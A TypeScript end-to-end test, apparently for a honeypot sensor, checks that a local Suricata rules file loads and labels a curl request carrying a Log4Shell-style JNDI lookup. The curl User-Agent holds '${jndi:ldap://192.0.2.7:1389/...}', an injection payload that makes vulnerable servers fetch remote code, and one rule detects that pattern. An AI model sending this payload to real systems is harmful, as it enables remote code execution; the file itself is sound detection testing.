// End to end, as root: the real sensor with community signatures. A Suricata rules file of our own given to
// --rules labels what a real client (curl) sends, beside the built-in labels; the start-up log says what loaded
// and what was skipped, by reason.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isCommunityLabel, labelKey } from '../../src/record/flow-record.ts';
import { createTopology, installLurkerFirewall, isRoot, nsExec, type Topology } from '../helpers/netns.ts';
import { startSensor, type SensorProcess } from '../helpers/sensor.ts';

const skip = isRoot() ? false : 'needs root (network namespaces)';
let topo: Topology;
let dir: string;
let sensor: SensorProcess | undefined;

const RULES = [
  // inbound to the monitored network: fires
  'alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"LOCAL JNDI lookup in the User-Agent"; flow:established,to_server; http.user_agent; content:"${jndi:"; nocase; classtype:attempted-admin; sid:9200001; rev:3;)',
  // server to client: skipped (a honeypot record is the client's side)
  'alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"LOCAL response"; flow:established,to_client; content:"200"; sid:9200002; rev:1;)',
  // a pcre that needs backtracking: skipped, never run
  'alert tcp any any -> any any (msg:"LOCAL backreference"; content:"GET"; pcre:"/(a+)\\1/"; sid:9200003; rev:1;)',
].join('\n');

before(() => {
  if (skip) return;
  topo = createTopology();
  dir = mkdtempSync(join(tmpdir(), 'synbait-sig-e2e-'));
  writeFileSync(join(dir, 'local.rules'), RULES + '\n');
  installLurkerFirewall(topo.sensorNs);
});
after(async () => {
  await sensor?.stop();
  topo?.cleanup();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

test('a rules file of ours labels a real client\'s request; SignaturesLoaded counts loaded and skipped by reason', { skip }, async () => {
  sensor = await startSensor(topo.sensorNs, ['-i', topo.sensorIf, '--format', 'json', '--rules', join(dir, 'local.rules'), '--flow-timeout', '1']);
  const loaded = await sensor.waitFor(() => sensor!.logs.find((l) => l.event === 'SignaturesLoaded'), 'SignaturesLoaded');
  assert.equal(loaded.loaded, 1);
  assert.equal(loaded.skipped, 2);
  assert.deepEqual(loaded.skipped_by_reason, { 'direction:to_client': 1, 'pcre:backreference': 1 });
  nsExec(topo.clientNs, 'curl', ['-s', '-m', '3', '-A', '${jndi:ldap://192.0.2.7:1389/Basic/Command}', `http://${topo.sensorIp4}:8080/`], { allowFail: true });
  const r = await sensor.waitForRecord((x) => x.dst_port === 8080 && x.payload_len > 0, 'the curl record');
  const keys = r.labels.map(labelKey);
  assert.ok(keys.includes('sb-2011'), `the built-in Log4j label: ${keys}`);
  assert.deepEqual(r.labels.filter(isCommunityLabel), [{
    // no classification.config beside the file: the classtype is kept, its priority is Suricata's default (3, low)
    sid: 9200001, rev: 3, name: 'LOCAL JNDI lookup in the User-Agent', category: 'attempted-admin', severity: 'low', ruleset: 'local',
  }]);
  assert.ok(keys.indexOf('sb-2011') < keys.indexOf('local:9200001'), 'ours first');
});
